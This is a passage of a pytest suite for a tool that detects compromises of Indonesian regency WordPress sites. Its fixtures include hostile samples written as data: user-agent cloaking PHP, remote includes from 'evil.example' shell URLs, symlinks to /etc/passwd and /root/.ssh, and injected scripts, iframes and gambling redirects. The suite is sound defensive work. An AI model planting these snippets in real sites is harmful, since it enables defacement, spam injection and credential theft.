     "config_handler", "*.jpg"),
    # PHP cloaking and remote content
    ("php-cloak-ua", "wp-content/themes/pemkab/header.php", Change.MODIFIED, side(PAGE),
     side(CLOAKING_PHP + PAGE), "php_cloaking", "HTTP_USER_AGENT ~ GOOGLEBOT"),
    ("php-remote-fetch", "wp-content/themes/pemkab/header.php", Change.MODIFIED, side(PAGE),
     side(CLOAKING_PHP + PAGE), "remote_fetch", "https://pastebin.example.com/raw/slot-gacor"),
    ("php-cloak-any-bot", "wp-content/themes/pemkab/header.php", Change.MODIFIED, side(PAGE),
     side("<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) {\n"
          "  echo file_get_contents(__DIR__ . '/.cache/links.html'); } ?>\n" + PAGE),
     "php_cloaking", "HTTP_USER_AGENT ~ BOT"),
    ("php-cloak-referer", "index2.php", Change.MODIFIED, side(PAGE), side(REFERER_PHP + PAGE),
     "php_cloaking", "HTTP_REFERER ~ GOOGLE"),
    ("php-redirect", "index2.php", Change.MODIFIED, side(PAGE), side(REFERER_PHP + PAGE),
     "redirect_injected", "https://daftar-slot88.example/"),
    ("curl-remote", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "function pemkab_links() {\n  $ch = curl_init();\n"
          '  curl_setopt($ch, CURLOPT_URL, "http://feed.spam.example/links.txt");\n'
          "  curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n  echo curl_exec($ch);\n}\n"
          "add_action('wp_footer', 'pemkab_links');\n"),
     "remote_fetch", "http://feed.spam.example/links.txt"),
    ("fetch-var", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "$u = 'https://raw.spam.example/a.txt';\n"
          "echo file_get_contents($u);\n"),
     "remote_fetch", "https://raw.spam.example/a.txt"),
    ("remote-include", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP), side(FUNCTIONS_PHP + "include 'http://evil.example/shell.txt';\n"),
     "include_disguised", "http://evil.example/shell.txt"),
    ("remote-include-script", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP), side(FUNCTIONS_PHP + "include 'http://evil.example/shell.php';\n"),
     "remote_fetch", "http://evil.example/shell.php"),
    # symbolic links
    ("link-passwd", "wp-content/uploads/passwd.txt", Change.ADDED, None, link("/etc/passwd"),
     "symlink_sensitive", "/etc/passwd"),
    ("link-wp-config", "readme.txt", Change.ADDED, None, link("wp-config.php"),
     "symlink_sensitive", "wp-config.php"),
    ("link-other-site-config", "wp-content/uploads/x.txt", Change.ADDED, None,
     link("../../../../home/dinkes/public_html/wp-config.php"), "symlink_sensitive",
     "wp-config.php"),
    ("link-root-ssh", "assets/k", Change.ADDED, None, link("/root/.ssh/"),
     "symlink_sensitive", "/root/.ssh/"),
    ("link-proc", "env.txt", Change.ADDED, None, link("/proc/self/environ"),
     "symlink_sensitive", "/proc/self/environ"),
    ("link-absolute", "wp-content/uploads/all", Change.ADDED, None, link("/"),
     "symlink_outside", "/"),
    ("link-climbs", "assets/lib", Change.ADDED, None, link("../../shared/lib"),
     "symlink_outside", "../../shared/lib"),
    ("link-retargeted", "wp-content/uploads/current", Change.MODIFIED, link("2024"),
     link("/var/www/other-site"), "symlink_outside", "/var/www/other-site"),
    ("dir-became-link", "wp-content/uploads", Change.TYPE,
     Side(Kind.DIR, 0o755, None, None), link("/tmp"), "symlink_outside", "/tmp"),
    # home page
    ("home-modified", "index.php", Change.MODIFIED, side("<?php require 'wp-blog-header.php';"),
     side("<?php require 'wp-blog-header.php'; // x"), "home_page", "index.php"),
    ("home-deleted", "index.html", Change.DELETED, side(PAGE), None, "home_page",
     "index.html"),
    ("home-added", "index.htm", Change.ADDED, None, side(PAGE), "home_page", "index.htm"),
    ("home-aspx", "Default.aspx", Change.MODIFIED, side("<%@ Page %>"), side("<%@ Page %>x"),
     "home_page", "Default.aspx"),
    ("home-became-link", "home.html", Change.TYPE, side(PAGE), link("berita/index.html"),
     "home_page", "home.html"),
    # external scripts, frames and redirects
    ("script-injected", "wp-content/themes/pemkab/footer.php", Change.MODIFIED,
     side(THEME_FOOTER),
     side(THEME_FOOTER.replace("</body>", '<script type="text/javascript" '
                               'src="https://cdn.jsdelivr-stats.example/jquery.min.js">'
                               "</script></body>")),
     "external_script", "https://cdn.jsdelivr-stats.example/jquery.min.js"),
    ("iframe-injected", "berita/index.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("</main>", '<iframe src="//ads.evil.example/f" width="0" height="0">'
                       "</iframe></main>")),
     "external_script", "//ads.evil.example/f"),
    ("script-created", "wp-content/themes/pemkab/js/navigation.js", Change.MODIFIED,
     side("(function(){})();\n"),
     side("(function(){})();\nvar s=document.createElement('script');"
          "s.src='https://lovegreenpencils.example/m.js';document.head.appendChild(s);\n"),
     "external_script", "https://lovegreenpencils.example/m.js"),
    ("script-written", "wp-includes/js/wp-emoji-release.min.js", Change.MODIFIED,
     side("(function(){})();\n"),
     side("(function(){})();\ndocument.write('<scr'+'ipt src=\"https://x.evil.example/a.js\">"
          "</scr'+'ipt>');\n"),
     "external_script", "https://x.evil.example/a.js"),
    ("meta-refresh", "layanan/index.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("<meta charset", '<meta http-equiv="refresh" '
                       'content="0;url=https://slot-gacor.example/"><meta charset')),
     "redirect_injected", "https://slot-gacor.example/"),
    ("js-location", "wp-content/themes/pemkab/js/navigation.js", Change.MODIFIED,
     side("(function(){})();\n"),
     side("(function(){})();\nif(/android|iphone/i.test(navigator.userAgent))"
          "{window.location.href='https://m.judi.example/';}\n"),
     "redirect_injected", "https://m.judi.example/"),
]


@pytest.mark.parametrize(
    ("path", "change", "old", "new", "code", "detail"),
    [pytest.param(*case[1:], id=case[0]) for case in CASES],
)
def test_attack_is_critical_with_its_reason(
    path: str, change: Change, old: Side | None, new: Side | None, code: str, detail: str
) -> None:
    reasons = critical_reasons(path, change, old, new)
    assert code in codes(reasons), reasons
    assert any(detail in found for found in details(reasons, code)), reasons
    assert codes(reasons) <= set(REASONS), "every code needs its report text"
    for reason in reasons:
        assert len(reason.detail) <= 80 and "\n" not in reason.detail


def test_every_reason_code_has_a_sample() -> None:
    # The PHP view's own codes, and polyglots, have their samples in test_detect_php.py.
    assert {case[5] for case in CASES} | set(DEEP_CODES) | {"image_polyglot"} == reason_codes()


def test_reason_texts_are_complete_in_both_languages() -> None:
    for code in reason_codes():
        texts = REASONS[code]
        assert set(texts) == {"en", "id"}, code
        for text in texts.values():
            assert "{detail}" in text, code
            assert text.format(detail="x")


# --- gambling terms, one by one ------------------------------------------------------------

GAMBLING_TERMS = [
    ("slot gacor", "slot gacor"),
    ("Judi Online", "judi online"),
    ("situs slot", "situs slot"),
    ("slot online", "slot online"),
    ("TOGEL", "togel"),
    ("maxwin", "maxwin"),
    ("RTP Live", "rtp live"),
    ("scatter hitam", "scatter hitam"),
    ("bandar togel", "bandar togel"),
    ("Pragmatic Play", "pragmatic play"),
    ("SBOBET", "sbobet"),
    ("zeus slot", "zeus slot"),
    ("kakek zeus", "kakek zeus"),
    ("slot88", "slot88"),
    ("gates of olympus", "gates of olympus"),
    ("mahjong ways", "mahjong ways"),
    ("bocoran RTP", "bocoran rtp"),
    ("toto macau", "toto macau"),
    ("agen judi bola", "agen judi"),
    ("slot-gacor", "slot gacor"),
    ("slot <b>gacor</b>", "slot gacor"),
    ("https://judi-slot.example/", "judi slot"),
]


@pytest.mark.parametrize(("term", "expected"), GAMBLING_TERMS)
def test_gambling_term_appearing_newly(term: str, expected: str) -> None:
    new = PAGE.replace("</article>", f"<p>Info {term} terbaru.</p></article>")
    reasons = modified("berita/index.html", PAGE, new)
    assert expected in details(reasons, "gambling_spam"), reasons


def test_gambling_term_already_approved_is_not_new() -> None:
    old = PAGE.replace("</main>", "<p>Situs judi online diblokir.</p></main>")
    new = old.replace("08.00", "07.30")
    assert modified("berita/index.html", old, new) == []


# --- what must stay a warning --------------------------------------------------------------

BENIGN: list[tuple[str, str, Change, Side | None, Side | None]] = [
    ("plain-new-page", "berita/pengumuman-cpns-2024.html", Change.ADDED, None, side(PAGE)),
    ("page-edited", "berita/index.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("08.00 - 16.00", "07.30 - 16.00"))),
    ("css-tweak", "wp-content/themes/pemkab/style.css", Change.MODIFIED,
     side("body { color: #333; }\n.site-footer { background: #0b3d91; }\n"),
     side("body { color: #222; }\n.site-footer { background: #0b3d91; }\n")),
    ("jpg-upload", "wp-content/uploads/2024/05/bupati.jpg", Change.ADDED, None,
     side(blob(JPEG_HEAD, 50000))),
    ("png-upload", "wp-content/uploads/2024/05/logo.png", Change.ADDED, None,
     side(blob(PNG_HEAD, 20000))),
    ("pdf-upload", "dokumen/perbup-12-2024.pdf", Change.ADDED, None,
     side(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
          + blob(b"stream\n\x00", 30000))),
    ("anti-gambling-news", "berita/sosialisasi-judi-online.html", Change.ADDED, None,
     side(PAGE.replace("</main>", ANTI_GAMBLING_NEWS + "</main>"))),
    ("bandar-lampung", "berita/kunjungan.html", Change.ADDED, None,
     side(PAGE.replace("</main>", "<p>Kunjungan kerja ke Kota Bandar Lampung dan Bandar "
                       "Udara Radin Inten II. Slot antrean terbatas.</p></main>"))),
    ("kicau-mania", "berita/lomba.html", Change.ADDED, None,
     side(PAGE.replace("</main>", "<p>Lomba burung kicau gacor tingkat kabupaten.</p></main>"))),
    ("owned-by-prose", "profil/aset.html", Change.ADDED, None,
     side(PAGE.replace("</main>", "<p>Lahan ini owned by the regency, hacked together by "
                       "volunteers; the old office was here.</p></main>"))),
    ("hidden-internal-menu", "wp-content/themes/pemkab/header.php", Change.MODIFIED,
     side(PAGE), side(PAGE.replace("</nav>", '<ul style="display:none" class="sub-menu">'
                                   '<li><a href="/profil/sejarah/">Sejarah</a></li></ul></nav>'))),
    ("offcanvas-menu", "wp-content/themes/pemkab/header.php", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("</head>", "<style>.drawer{width:0;overflow-x:hidden}"
                       ".sub-menu{display:none}</style></head>")
          .replace("</nav>", '<div class="drawer"><a href="https://facebook.com/pemkab">FB</a>'
                   '</div><ul class="sub-menu"><li><a href="https://instagram.com/pemkab">IG'
                   "</a></li></ul></nav>"))),
    ("script-same-host-upgrade", "wp-content/themes/pemkab/header.php", Change.MODIFIED,
     side(PAGE.replace("/wp-includes/js/jquery/jquery.min.js",
                       "https://code.jquery.com/jquery-3.6.0.min.js")),
     side(PAGE.replace("/wp-includes/js/jquery/jquery.min.js",
                       "https://code.jquery.com/jquery-3.7.1.min.js"))),
    ("sitemap-lastmod", "sitemap.xml", Change.MODIFIED, side(sitemap(GOOD_PATHS)),
     side(sitemap(GOOD_PATHS).replace("2024-05-01", "2024-06-11"))),
    ("sitemap-one-post", "sitemap.xml", Change.MODIFIED, side(sitemap(GOOD_PATHS)),
     side(sitemap([*GOOD_PATHS, "berita/rapat-koordinasi-stunting/"]))),
    ("comment-in-php", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP), side(FUNCTIONS_PHP.replace("theme functions", "theme functions."))),
    ("home-chmod", "index.php", Change.MODE, side("<?php echo 1;"), side("<?php echo 1;", 0o640)),
    ("unchanged-content", "berita/index.html", Change.MODIFIED, side(PAGE), side(PAGE)),
    ("file-deleted", "berita/lama.html", Change.DELETED, side(PAGE), None),
    ("home-in-subfolder", "blog/index.php", Change.MODIFIED, side("<?php echo 1;"),
     side("<?php echo 2;")),
    ("link-inside", "wp-content/uploads/latest", Change.ADDED, None, link("2024/05")),
    ("link-sibling", "wp-content/themes/child/style.css", Change.ADDED, None,
     link("../parent/style.css")),
    ("link-mode", "wp-content/uploads/latest", Change.MODE, link("2024/05"), link("2024/05")),
    ("new-dir", "wp-content/uploads/2024/06", Change.ADDED, None,
     Side(Kind.DIR, 0o755, None, None)),
    ("stats-skip-bots", "wp-content/plugins/statistik/count.php", Change.MODIFIED,
     side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "function statistik_count() {\n"
          "  if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) {\n"
          "    return;\n  }\n  update_option('visits', get_option('visits') + 1);\n}\n")),
    ("commented-out-eval", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "// eval($_POST['debug']); removed, see ticket 42\n")),
    ("include-template", "wp-content/themes/pemkab/page.php", Change.MODIFIED,
     side(FUNCTIONS_PHP), side(FUNCTIONS_PHP + "include 'template-parts/content-page.php';\n")),
    ("new-js", "wp-content/themes/pemkab/js/slider.js", Change.ADDED, None,
     side("document.addEventListener('DOMContentLoaded', function () {\n"
          "  var slides = document.querySelectorAll('.slide');\n});\n")),
    ("config-php-link", "wp-config.php", Change.ADDED, None, link("wp-config-production.php")),
]


@pytest.mark.parametrize(
    ("path", "change", "old", "new"), [pytest.param(*b[1:], id=b[0]) for b in BENIGN]
)
def test_benign_change_is_only_a_warning(
    path: str, change: Change, old: Side | None, new: Side | None
) -> None:
    assert critical_reasons(path, change, old, new) == []


BENIGN_HTACCESS = [
    ("wordpress", WP_HTACCESS),
    ("https", "RewriteEngine On\nRewriteCond %{HTTPS} off\n"
              "RewriteRule ^(.*)$ https://%{HTTP_HOST}%{REQUEST_URI} [L,R=301]\n"),
    ("canonical", "RewriteEngine On\nRewriteCond %{HTTP_HOST} ^sukamajukab\\.go\\.id$ [NC]\n"
                  "RewriteRule ^(.*)$ https://www.sukamajukab.go.id/$1 [L,R=301]\n"),
    ("bad-bots", "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} (ahrefsbot|semrush|mj12bot)"
                 " [NC]\nRewriteRule .* - [F,L]\n"),
    ("hotlink", "RewriteEngine On\nRewriteCond %{HTTP_REFERER} !^$\n"
                "RewriteCond %{HTTP_REFERER} !^https?://(www\\.)?google\\. [NC]\n"
                "RewriteRule \\.(jpg|png)$ - [F]\n"),
    ("cpanel-php", "<IfModule mime_module>\n  AddHandler application/x-httpd-ea-php74 .php "
                   ".php7 .phtml\n</IfModule>\n"),
    ("php-fpm", '<FilesMatch \\.php$>\n  SetHandler "proxy:unix:/run/php/php8.2-fpm.sock|'
                'fcgi://localhost"\n</FilesMatch>\n'),
    ("uploads-hardening", "<Files *.php>\ndeny from all\n</Files>\nphp_flag engine off\n"),
    ("fonts", "AddType application/font-woff2 .woff2\nAddType image/svg+xml .svg\n"),
    ("local-redirect", "Redirect 301 /lama/ /berita/\n"),
]


@pytest.mark.parametrize(("text",), [pytest.param(t, id=n) for n, t in BENIGN_HTACCESS])
def test_benign_htaccess_gives_only_the_config_reason(text: str) -> None:
    reasons = modified(".htaccess", "# empty\n", text)
    assert reasons == [Reason("server_config", ".htaccess")]


def test_defacement_already_in_approved_page_is_not_new() -> None:
    old = PAGE.replace("</main>", "<p>Akun media sosial kami sempat hacked by orang tak "
                       "dikenal pada 2022.</p></main>")
    assert modified("berita/index.html", old, old.replace("2024", "2025")) == []


def test_webshell_pattern_already_approved_is_not_new() -> None:
    old = FUNCTIONS_PHP + "eval($_POST['legacy']);\n"
    assert modified("wp-content/plugins/x.php", old, old + "// reviewed\n") == []


def test_wordpress_bare_words_are_not_webshells() -> None:
    # WordPress core itself has eval, base64_decode, system( and popen in ordinary code.
    text = (
        FUNCTIONS_PHP
        + "$raw = base64_decode( $signature );\n"
        + "$mail = @popen( $sendmail, 'w' );\n"
        + "// like operating system (which means the directory separator is set)\n"
        + "assert( count( $from_lines ) == count( $mapped_from_lines ) );\n"
        + "$diff = shell_exec( $this->_diffCommand . ' ' . $from_file );\n"
        + "$action = isset( $_REQUEST['action'] ) ? $_REQUEST['action'] : '';\n"
        + "$ids = array_map( 'absint', $_GET['ids'] );\n"
        + "call_user_func( $callbacks[ $_GET['page'] ] );\n"
        + "$ua = $_SERVER['HTTP_USER_AGENT']; $is_chrome = strpos( $ua, 'Chrome' );\n"
        + "$response = wp_remote_get( 'https://api.wordpress.org/core/version-check/1.7/' );\n"
    )
    assert modified("wp-includes/functions.php", FUNCTIONS_PHP, text) == []


# --- WordPress as shipped: the false-positive sweep ----------------------------------------


def _wordpress_files() -> Iterator[tuple[str, bytes]]:
    for dirpath, _dirs, files in os.walk(WORDPRESS):
        for name in sorted(files):
            full = Path(dirpath) / name
            try:
                data = full.read_bytes()
            except OSError:
                continue  # a dangling link in the package
            yield full.relative_to(WORDPRESS).as_posix(), data


@pytest.fixture(scope="module")
def wordpress() -> list[tuple[str, bytes]]:
    assert (WORDPRESS / "wp-includes" / "version.php").is_file(), (
        "Debian's wordpress package is needed (apt-get install wordpress)"
    )
    files = list(_wordpress_files())
    assert len(files) > 500
    return files


_COMMENT = {
    "php": b"\n/* local edit */\n",
    "js": b"\n/* local edit */\n",
    "css": b"\n/* local edit */\n",
    "html": b"\n<!-- local edit -->\n",
    "htm": b"\n<!-- local edit -->\n",
    "xml": b"\n<!-- local edit -->\n",
    "svg": b"\n<!-- local edit -->\n",
}


def _expected_by_rule(path: str) -> set[str]:
    """Codes a path earns whatever its content: the home page and server configuration."""
    name = path.rsplit("/", 1)[-1]
    expected = set()
    if "/" not in path and name in ("index.php", "index.html"):
        expected.add("home_page")
    if name in (".htaccess", "web.config", ".user.ini", "php.ini"):
        expected.add("server_config")
    return expected


def test_wordpress_modified_with_a_trivial_edit_is_not_critical(
    wordpress: list[tuple[str, bytes]],
) -> None:
    checked = 0
    noisy = []
    for path, data in wordpress:
        edit = _COMMENT.get(path.rsplit(".", 1)[-1], b"\n# local edit\n")
        reasons = modified(path, data, data + edit)
        if codes(reasons) - _expected_by_rule(path):
            noisy.append((path, reasons))
        checked += 1
    assert checked > 500
    assert noisy == []


def test_wordpress_version_bump_and_readme_edit(wordpress: list[tuple[str, bytes]]) -> None:
    files = dict(wordpress)
    version = files["wp-includes/version.php"]
    bumped = version.replace(b"$wp_version = '", b"$wp_version = '9", 1)
    assert bumped != version
    assert modified("wp-includes/version.php", version, bumped) == []
    readme = files["readme.html"]
    edited = readme.replace(b"WordPress", b"WordPress (Debian)", 1)
    assert modified("readme.html", readme, edited) == []


# New PHP files are critical by rule (a new script needs approval); what this checks is that
# WordPress's content trips none of the content patterns when read as if it were all new.
_ADDED_BY_RULE = {"new_script", "new_script_upload", "upload_handler"}
# WordPress's own media players load the YouTube and Vimeo APIs: for new content that is, as
# the rule says, a script from an outside host.
_ADDED_EXTERNAL_HOSTS = ("https://www.youtube.com/", "https://player.vimeo.com/")


def test_wordpress_content_read_as_new_trips_no_content_rule(
    wordpress: list[tuple[str, bytes]],
) -> None:
    noisy = []
    for path, data in wordpress:
        reasons = added(path, data)
        unexpected = [
            r
            for r in reasons
            if r.code not in _ADDED_BY_RULE | _expected_by_rule(path)
            and not (r.code == "external_script" and r.detail.startswith(_ADDED_EXTERNAL_HOSTS))
        ]
        if unexpected:
            noisy.append((path, unexpected))
    assert noisy == []


# --- bounded work --------------------------------------------------------------------------


def _big_page(size: int) -> str:
    chunk = PAGE.replace("<!DOCTYPE html>", "").replace("</html>", "")
    return "<!DOCTYPE html>" + chunk * (size // len(chunk)) + "</html>"


@pytest.mark.parametrize("kind", ["html", "php"])
def test_one_megabyte_file_takes_milliseconds(kind: str) -> None:
    if kind == "html":
        old = _big_page(1 << 20)
        path = "berita/arsip.html"
    else:
        old = FUNCTIONS_PHP + ("$a = isset( $_GET['x'] ) ? absint( $_GET['x'] ) : 0;\n"
                               "echo esc_html( $a ); eval_helper( $a );\n") * 12000
        path = "wp-content/plugins/x/big.php"
    new = old + HIDDEN_BACKLINKS
    assert len(new) > 1 << 20
    critical_reasons(path, Change.MODIFIED, side(old), side(new))  # compile the patterns
    started = time.process_time()  # CPU time: other jobs on the machine do not count
    reasons = critical_reasons(path, Change.MODIFIED, side(old), side(new))
    elapsed = time.process_time() - started
    assert "hidden_links" in codes(reasons)
    assert elapsed < 0.25, f"{elapsed * 1000:.0f} ms"


def test_injection_at_the_end_of_a_huge_file_is_read() -> None:
    old = _big_page(8 << 20)
    new = old + "<p>slot gacor</p>"
    assert "gambling_spam" in codes(modified("berita/arsip.html", old, new))
